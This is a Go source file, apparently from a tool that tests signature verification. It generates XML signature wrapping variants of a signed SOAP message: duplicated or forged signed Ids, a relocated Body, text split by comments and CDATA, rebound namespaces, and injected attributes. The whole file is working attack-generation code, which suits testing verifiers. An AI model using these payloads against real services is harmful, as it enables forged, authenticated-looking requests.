package attacks

import (
	"fmt"
	"maps"
	"regexp"
	"slices"
	"strings"
)

// duplicateIDs repeats the Id of what is signed, or named, on something else.
func (f *forge) duplicateIDs() {
	for _, id := range f.ids() {
		for _, spelling := range []string{
			`wsu:Id="%s" xmlns:wsu="` + nsWSU + `"`, `u:Id="%s" xmlns:u="` + nsWSU + `"`, `Id="%s"`, `ID="%s"`, `id="%s"`,
			`xml:id="%s"`, `AssertionID="%s"`, `x:Id="%s" xmlns:x="urn:x"`, `wsu:Id=" %s " xmlns:wsu="` + nsWSU + `"`,
			`x:Id="%s" xmlns:x="&#104;ttp://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-utility-1.0.xsd"`,
		} {
			attribute := fmt.Sprintf(spelling, id)
			forged := `<e:Evil xmlns:e="urn:evil" ` + attribute + `>give all</e:Evil>`
			body := `<` + f.tagName(f.body) + ` ` + attribute + `>` + evil + `</` + f.tagName(f.body) + `>`
			name := "of " + id + ": " + spelling
			f.add("in Header, "+name, f.edited(afterStart(f.header, forged)))
			f.add("last in Header, "+name, f.edited(beforeEnd(f.header, forged)))
			f.add("in Security, "+name, f.edited(afterStart(f.security, forged)))
			f.add("last in Security, "+name, f.edited(beforeEnd(f.security, forged)))
			f.add("on Envelope, "+name, f.edited(insert(f.root.open-1, " "+attribute)))
			f.add("on Header, "+name, f.edited(insert(f.header.open-1, " "+attribute)))
			f.add("on Security, "+name, f.edited(insert(f.security.open-1, " "+attribute)))
			f.add("on Body, "+name, f.edited(insert(f.body.open-1, " "+attribute)))
			f.add("on a forged Body, "+name, f.edited(replace(f.body, body), beforeEnd(f.header, f.source(f.body))))
			f.add("on a Body before, "+name, f.edited(insert(f.body.start, body)))
		}
	}
}

// ids are those of the parts and of the tokens.
func (f *forge) ids() (list []string) {
	for _, e := range f.signed {
		if e.id() != "" {
			list = append(list, e.id())
		}
	}
	for _, e := range f.security.children {
		if e.id() != "" && e != f.signature && !strings.Contains(strings.Join(list, " "), e.id()) {
			list = append(list, e.id())
		}
	}
	return list
}

// split divides texts and attribute values, for parsers that read the first
// piece, or none.
func (f *forge) split() {
	for _, e := range f.root.all() {
		for _, t := range e.text {
			text := f.src[t[0]:t[1]]
			if strings.TrimSpace(text) == "" || strings.ContainsAny(text, "&<") {
				continue
			}
			middle := t[0] + len(text)/2
			for _, piece := range []string{"<!---->", "<!-- x -->", "<![CDATA[]]>", "<?x y?>", "&#x20;", "&#10;", "\n",
				"<![CDATA[<e/>]]>", "<x/>", "&amp;", "\u200b", "&#0;"} {
				f.add(piece+" before text of "+e.local, f.edited(insert(t[0], piece)))
				f.add(piece+" in text of "+e.local, f.edited(insert(middle, piece)))
				f.add(piece+" after text of "+e.local, f.edited(insert(t[1], piece)))
			}
			f.add("text of "+e.local+" in CDATA", f.edited(edit{t[0], t[1], "<![CDATA[" + text + "]]>"}))
			f.add("half the text of "+e.local+" in a comment", f.edited(edit{middle, t[1], "<!--" +
				strings.ReplaceAll(f.src[middle:t[1]], "--", "") + "-->"}))
		}
	}
	for _, e := range []*element{f.header, f.security, f.body, f.root} {
		for _, piece := range []string{"<!-- x -->", "<?x y?>", "<![CDATA[ ]]>", "text", "&#x20;"} {
			f.add(piece+" first in "+e.local, f.edited(afterStart(e, piece)))
			f.add(piece+" last in "+e.local, f.edited(beforeEnd(e, piece)))
			f.add(piece+" before "+e.local, f.edited(insert(e.start, piece)))
		}
	}
}

var declaration = regexp.MustCompile(`\sxmlns(:([\w.-]+))?=("[^"]*"|'[^']*')`)

// rebind changes what prefixes stand for.
func (f *forge) rebind() {
	for _, at := range declaration.FindAllStringSubmatchIndex(f.src, -1) {
		found := f.src[at[0]:at[1]]
		name, value := found[:strings.Index(found, "=")], f.src[at[6]+1:at[7]-1]
		for _, other := range []string{"urn:evil", value + "/", strings.ToUpper(value), " " + value, nsSOAP11, nsSOAP12,
			nsWSU, nsWSSE, nsDS, ""} {
			f.add(fmt.Sprintf("%s at %d is %.60q", strings.TrimSpace(name), at[0], other),
				f.edited(edit{at[0], at[1], name + `="` + other + `"`}))
		}
		f.add(fmt.Sprintf("%s at %d removed", strings.TrimSpace(name), at[0]), f.edited(edit{at[0], at[1], ""}))
		f.add(fmt.Sprintf("%s at %d twice", strings.TrimSpace(name), at[0]), f.edited(insert(at[1], found)))
	}
	for _, prefix := range slices.Sorted(maps.Keys(f.body.scope)) {
		for _, e := range []*element{f.body, f.header, f.root, f.security} {
			if prefix == "xml" || strings.Contains(f.src[e.start:e.open], "xmlns:"+prefix+"=") {
				continue
			}
			name := "xmlns:" + prefix
			if prefix == "" {
				name = "xmlns"
			}
			f.add(name+" evil on "+e.local, f.edited(insert(e.open-1, ` `+name+`="urn:evil"`)))
		}
	}
}

// inject adds declarations and attributes that are inherited.
func (f *forge) inject() {
	prefixes := map[string]bool{"": true, "xml": true, "xmlns": true, "xsi": true, "xs": true, "e": true}
	for _, at := range declaration.FindAllStringSubmatch(f.src, -1) {
		prefixes[at[2]] = true
	}
	for _, e := range f.root.all() {
		if e != f.root && e.parent != f.root && e.parent != f.header && e.parent != f.body && e.parent != f.security {
			continue
		}
		for _, prefix := range slices.Sorted(maps.Keys(prefixes)) {
			name := strings.TrimSuffix("xmlns:"+prefix, ":")
			if strings.Contains(f.src[e.start:e.open], name+"=") {
				continue
			}
			for _, space := range []string{"urn:evil", "", nsXML, "http://www.w3.org/2000/xmlns/"} {
				f.add(fmt.Sprintf("%s=%q on %s", name, space, e.local),
					f.edited(insert(e.open-1-e.slash(f.src), ` `+name+`="`+space+`"`)))
			}
		}
		for _, attribute := range []string{`xml:base="http://evil/"`, `xml:lang="tlh"`, `xml:space="preserve"`,
			`xsi:type="e:Evil" xmlns:e="urn:evil" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"`,
			`xsi:nil="true" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"`, `e:x="y" xmlns:e="urn:evil"`,
			`encodingStyle="urn:evil"`} {
			f.add(attribute+" on "+e.local, f.edited(insert(e.open-1-e.slash(f.src), ` `+attribute)))
		}
	}
}

// slash is 1 if the start tag ends in "/>", else 0.
func (e *element) slash(src string) int {
	if src[e.open-2] == '/' {
		return 1
	}
	return 0
}
